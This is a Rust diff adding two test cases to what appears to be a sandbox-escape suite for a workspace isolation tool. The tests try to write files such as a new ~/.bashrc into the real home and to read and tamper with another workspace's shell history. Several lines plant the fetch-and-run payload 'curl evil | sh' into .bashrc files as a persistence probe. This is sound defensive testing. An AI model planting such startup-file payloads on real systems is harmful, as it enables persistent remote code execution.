@@ -59,6 +59,18 @@ pub fn cases() -> Vec<Case> {
             dotfiles,
         ),
         Case::attack(
+            "writes/private-home",
+            c,
+            "write ~/planted, a new ~/.bashrc, ~/.cache/<tool> and ~/.config/<tool>: they may land in the workspace's private home, never in the real home",
+            private_home,
+        ),
+        Case::attack(
+            "writes/other-private-home",
+            c,
+            "read and write another workspace's private home (its shell history, a new ~/.bashrc there)",
+            other_private_home,
+        ),
+        Case::attack(
             "writes/metadata",
             c,
             "truncate and remove an outside file; remove a directory outside; mkdir outside",
@@ -474,5 +486,78 @@ fn host_caches(ctx: &Ctx<'_>) -> Outcome {
         &out,
         !changed.is_empty(),
         format!("written on the host: {changed:?}"),
+    )
+}
+
+fn private_home(ctx: &Ctx<'_>) -> Outcome {
+    let tok = &ctx.token;
+    let planted = [
+        format!("planted-{tok}"),
+        ".bashrc".to_owned(),
+        format!(".cache/tool-{tok}/state"),
+        format!(".config/tool-{tok}/settings"),
+    ];
+    let steps: Vec<String> = planted
+        .iter()
+        .map(|p| {
+            let dir = Path::new(p).parent().map(|d| d.display().to_string());
+            match dir.filter(|d| !d.is_empty()) {
+                Some(d) => format!("mkdir -p ~/{d} && echo evil > ~/{p}"),
+                None => format!("echo 'curl evil | sh' > ~/{p}"),
+            }
+        })
+        .collect();
+    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
+    let out = ctx.sh_steps(&steps);
+    let hit: Vec<&String> = planted
+        .iter()
+        .filter(|p| exists(&ctx.home.join(p)))
+        .collect();
+    ctx.judge(
+        &out,
+        !hit.is_empty(),
+        format!("in the real home {}: {hit:?}", ctx.home.display()),
+    )
+}
+
+fn other_private_home(ctx: &Ctx<'_>) -> Outcome {
+    let tok = &ctx.token;
+    // cordon's cache directory for this column's user, as the harness's XDG_CACHE_HOME puts it.
+    let cordon_dir = ctx
+        .suite
+        .base
+        .join(format!("cache-{}", ctx.ids.uid))
+        .join("cordon");
+    let tools = cordon_dir.join("tools");
+    let other = tools.join(format!("other-{tok}.home"));
+    let history = other.join(".bash_history");
+    let secret = ctx.secret("other-private-home");
+    let planted = (|| -> Result<(), String> {
+        for d in [&cordon_dir, &tools, &other] {
+            std::fs::create_dir_all(d).map_err(|e| format!("{}: {e}", d.display()))?;
+            std::os::unix::fs::lchown(d, Some(ctx.ids.uid), Some(ctx.ids.gid))
+                .map_err(|e| format!("{}: {e}", d.display()))?;
+        }
+        std::fs::write(&history, &secret).map_err(|e| format!("{}: {e}", history.display()))?;
+        std::os::unix::fs::lchown(&history, Some(ctx.ids.uid), Some(ctx.ids.gid))
+            .map_err(|e| format!("{}: {e}", history.display()))
+    })();
+    if let Err(e) = planted {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let bashrc = other.join(".bashrc");
+    let out = ctx.sh_steps(&[
+        &format!("cat {}", qp(&history)),
+        &format!("echo evil >> {}", qp(&history)),
+        &format!("echo 'curl evil | sh' > {}", qp(&bashrc)),
+    ]);
+    let leaked = super::creds::leak(ctx, &out.all());
+    let changed = std::fs::read_to_string(&history).map_or(true, |t| t != secret);
+    let created = exists(&bashrc);
+    let _ = std::fs::remove_dir_all(&other);
+    ctx.judge(
+        &out,
+        !leaked.is_empty() || changed || created,
+        format!("read: {leaked:?}; history changed: {changed}; .bashrc created: {created}"),
     )
 }
